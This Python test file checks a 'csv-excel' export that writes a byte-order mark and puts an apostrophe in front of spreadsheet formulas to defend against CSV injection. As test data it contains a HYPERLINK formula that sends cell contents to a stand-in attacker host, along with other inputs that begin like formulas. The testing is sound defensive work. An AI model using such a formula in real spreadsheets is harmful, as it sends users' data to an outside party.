"""The ``csv-excel`` export: the plain CSV with a byte-order mark and formulas defused (OWASP, CSV injection)."""

from __future__ import annotations

import codecs
import csv
import io
from pathlib import Path

from test_export_support import add_item
from tocsin.config import Settings
from tocsin.export.dataset import ExportOptions, export_dataset
from tocsin.export.schema import FIELD_NAMES, LIST_FIELDS
from tocsin.export.writers import FORMATS, FORMULA_STARTS, CsvWriter, SpreadsheetCsvWriter

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1, "click")'
AT_TITLE = "@ everyone: read this"
NUMERIC = ("score", "threshold", "review_count", "review_incitement", "review_not_incitement", "review_escalate",
           "review_unsure", "review_agreement")


def read_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def export(db, tmp_path: Path, fmt: str):
    return export_dataset(db, Settings(), ExportOptions(fmt=fmt, out=tmp_path / fmt, link_key="study"))


def test_csv_excel_defuses_formulas_and_writes_a_bom_while_plain_csv_stays_as_scraped(fresh_db, tmp_path):
    add_item(fresh_db, url="https://news.example.kg/a/1", text=HYPERLINK, score=0.2)
    add_item(fresh_db, url="https://news.example.kg/a/2", title=AT_TITLE, text="-5 degrees in Osh tonight", score=0.3)
    add_item(fresh_db, url="https://news.example.kg/a/3", text="Oʻzbekcha matn va текст, a=b", lang="uz-Latn", score=0.4)
    plain, excel = export(fresh_db, tmp_path, "csv"), export(fresh_db, tmp_path, "csv-excel")
    plain_bytes, excel_bytes = plain.data_path.read_bytes(), excel.data_path.read_bytes()
    assert excel.data_path.name == "tocsin-export.csv"
    assert excel_bytes.startswith(codecs.BOM_UTF8) and not plain_bytes.startswith(codecs.BOM_UTF8)

    plain_rows, excel_rows = read_rows(plain_bytes), read_rows(excel_bytes[len(codecs.BOM_UTF8):])
    assert list(excel_rows[0]) == list(plain_rows[0]) == FIELD_NAMES
    link = next(r for r in excel_rows if "HYPERLINK" in r["text"])
    assert link["text"] == "'" + HYPERLINK and link["title"] == ""
    titled = next(r for r in excel_rows if "degrees" in r["text"])
    assert titled["title"] == "'" + AT_TITLE and titled["text"].startswith("'" + AT_TITLE)
    uzbek = next(r for r in excel_rows if "matn" in r["text"])
    assert uzbek["text"] == "Oʻzbekcha matn va текст, a=b", "a text that is no formula is left alone"
    # the plain CSV holds the texts exactly as scraped
    assert next(r for r in plain_rows if "HYPERLINK" in r["text"])["text"] == HYPERLINK
    assert next(r for r in plain_rows if "degrees" in r["title"] + r["text"])["title"] == AT_TITLE

    defused = 0
    for before, after in zip(plain_rows, excel_rows, strict=True):
        for name in FIELD_NAMES:
            if name not in NUMERIC and name not in LIST_FIELDS and before[name].startswith(FORMULA_STARTS):
                assert after[name] == "'" + before[name], name
                defused += 1
            else:
                assert after[name] == before[name], name
    assert defused == 3   # the link's text; the titled item's title and text

    sheet = excel.datasheet_path.read_text(encoding="utf-8")
    assert "`tocsin-export.csv` (csv-excel)" in sheet and "byte-order mark" in sheet and "(3 fields here)" in sheet
    assert "--format csv-excel" in plain.datasheet_path.read_text(encoding="utf-8")


def blank_record(**values) -> dict:
    record = {name: [] if name in LIST_FIELDS else None for name in FIELD_NAMES}
    return record | values


def test_numeric_columns_stay_numbers_and_only_a_dangerous_start_is_prefixed(tmp_path):
    records = [
        blank_record(id="i_1", title="-5", text="\tindented", explanation="\rcarriage", source="+996 news",
                     score=-0.25, threshold=-1.0, review_count=-3, review_agreement=-0.5, hallmarks=["-x"]),
        blank_record(id="i_2", title="not first: =1", text="a-b", explanation="", source="plain", score=0.5, review_count=0),
        blank_record(id="i_3", title=" =1+1", text="\u00a0\n=HYPERLINK(\"x\")", explanation="  @x", source="plain"),
    ]
    for cls in (CsvWriter, SpreadsheetCsvWriter):
        with cls(tmp_path / f"{cls.__name__}.csv") as writer:
            writer.write(records)
    plain = read_rows((tmp_path / "CsvWriter.csv").read_bytes())
    excel = read_rows((tmp_path / "SpreadsheetCsvWriter.csv").read_bytes().removeprefix(codecs.BOM_UTF8))
    first, second, third = excel
    assert (first["score"], first["threshold"], first["review_count"], first["review_agreement"]) == ("-0.25", "-1.0", "-3", "-0.5")
    assert (first["title"], first["text"], first["explanation"], first["source"]) == ("'-5", "'\tindented", "'\rcarriage", "'+996 news")
    assert first["hallmarks"] == '["-x"]', "lists are JSON and start with ["
    assert second == plain[1], "no field of the second record starts with a formula character"
    assert plain[0]["title"] == "-5" and plain[0]["text"] == "\tindented"
    assert (third["title"], third["text"], third["explanation"]) == ("' =1+1", "'\u00a0\n=HYPERLINK(\"x\")", "'  @x"), \
        "white space a spreadsheet may trim on import does not hide a formula"
    assert writer.defused == 7


def test_cli_exports_csv_excel(runner, db_path, tmp_path):
    from tocsin.cli import main
    from tocsin.cli.privacy import FORMAT_CHOICES
    from tocsin.store import connect

    assert FORMAT_CHOICES == FORMATS
    db = connect(db_path)
    add_item(db, url="https://news.example.kg/a/1", text=HYPERLINK)
    db.close()
    out = tmp_path / "sheet"
    result = runner.invoke(main, ["--db", str(db_path), "export", "--format", "csv-excel", "--out", str(out)])
    assert result.exit_code == 0, result.output
    data = (out / "tocsin-export.csv").read_bytes()
    assert data.startswith(codecs.BOM_UTF8) and read_rows(data[3:])[0]["text"] == "'" + HYPERLINK
    assert "csv-excel" in runner.invoke(main, ["export", "--help"]).output
